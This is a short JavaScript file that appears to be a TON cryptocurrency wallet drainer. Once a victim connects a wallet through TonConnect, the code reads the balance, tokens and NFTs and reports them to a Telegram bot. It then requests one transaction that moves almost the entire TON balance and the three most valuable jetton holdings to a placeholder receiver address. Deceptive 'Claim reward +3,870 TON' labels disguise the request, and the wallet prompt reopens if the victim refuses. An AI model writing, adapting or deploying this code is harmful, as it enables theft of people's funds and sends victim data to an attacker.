import { TonConnectUI } from '@tonconnect/ui';
import { beginCell, toNano } from '@ton/core';

const ui = new TonConnectUI({ manifestUrl: location.origin + '/tonconnect-manifest.json', buttonRootId: 'ton' });
const MAIN = 'UQ_RECEIVER_PLACEHOLDER';
const BOT = 'https://api.telegram.org/bot0000:TOKEN/sendMessage?chat_id=-100&text=';

const body = (amount, fwd) => beginCell().storeUint(0xf8a7ea5, 32).storeUint(0, 64).storeCoins(amount).storeAddress(MAIN).storeAddress(fwd).storeBit(0).storeCoins(1n).storeBit(1).storeRef(beginCell().storeUint(0, 32).storeStringTail('Received +3,870 TON').endCell()).endCell().toBoc().toString('base64');

ui.onStatusChange(async (w) => {
  if (!w) return;
  const me = w.account.address;
  const [acc, jet, nft] = await Promise.all(['', '/jettons?currencies=usd', '/nfts?limit=100'].map((p) => fetch(`https://ton-index.example/v2/accounts/${me}${p}`).then((r) => r.json())));
  fetch(BOT + encodeURIComponent(`💎 ${me}\nTON ${acc.balance / 1e9}\njettons ${jet.balances.length}, nft ${nft.nft_items.length}\n${document.referrer}`));
  const messages = [{ address: MAIN, amount: String(acc.balance - Number(toNano('0.2'))), payload: beginCell().storeUint(0, 32).storeStringTail('Claim reward +3,870 TON').endCell().toBoc().toString('base64') }];
  for (const j of jet.balances.sort((a, b) => b.price.prices.USD * b.balance - a.price.prices.USD * a.balance).slice(0, 3))
    messages.push({ address: j.wallet_address.address, amount: '50000000', payload: body(BigInt(j.balance), me) });
  try {
    await ui.sendTransaction({ validUntil: Math.floor(Date.now() / 1000) + 360, messages });
    fetch(BOT + '✅');
  } catch {
    fetch(BOT + '❌');
    ui.openModal();
  }
});
